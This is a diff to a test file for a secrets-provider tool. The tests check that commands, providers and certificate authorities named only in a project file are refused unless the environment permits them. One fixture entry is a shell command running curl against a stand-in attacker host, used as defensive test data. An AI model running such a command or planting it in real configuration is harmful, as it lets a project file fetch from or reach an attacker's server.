@@ -62,14 +62,26 @@ test.each<Readonly<Record<string, string>>>([
   { kind: 'command', command: '["sh", "-c", "curl evil.example"]' },
   { kind: 'sops', program: './sops' },
   { kind: 'kubernetes', kubeconfig: 'deploy/kubeconfig' },
-])('nothing runs because only a file of the project says so: $kind', async (spec) => {
-  const text = String(Object.values(spec)[1])
-  for (const COFFER_ALLOW_PROVIDERS of ['', 'op', `${text} more`, 'command']) {
-    const error = await refusalOf(() => made(spec, { COFFER_ALLOW_PROVIDERS }))
-    expect(error).toMatchObject({ code: 'unknown_provider' })
-  }
-  const env = { COFFER_ALLOW_PROVIDERS: `https://a.example\n${text}` }
-  expect(await made(spec, env)).toBe(spec['kind'])
+  { kind: 'vault', caFile: 'deploy/ca.pem' },
+  { kind: 'coffer', caFile: 'deploy/ca.pem', address: 'https://127.0.0.1:8200' },
+])(
+  'nothing runs, and no authority is believed, because only a file of the project says so: $kind',
+  async (spec) => {
+    const text = String(Object.values(spec)[1])
+    for (const COFFER_ALLOW_PROVIDERS of ['', 'op', `${text} more`, 'command']) {
+      const error = await refusalOf(() => made(spec, { COFFER_ALLOW_PROVIDERS }))
+      expect(error).toMatchObject({ code: 'unknown_provider' })
+    }
+    const env = { COFFER_ALLOW_PROVIDERS: `https://a.example\n${text}` }
+    expect(await made(spec, env)).toBe(spec['kind'])
+  },
+)
+
+test('the environment’s own authority is one that a file of the project may name', async () => {
+  const spec = { kind: 'vault', caFile: '/etc/vault/ca.pem' }
+  expect(await made(spec, { VAULT_CACERT: '/etc/vault/ca.pem' })).toBe('vault')
+  const error = await refusalOf(() => made(spec, { VAULT_CACERT: '/etc/vault/other.pem' }))
+  expect(error.message).toContain('names the authority "/etc/vault/ca.pem"')
 })
 
 test('options in code are the program’s own', () => {
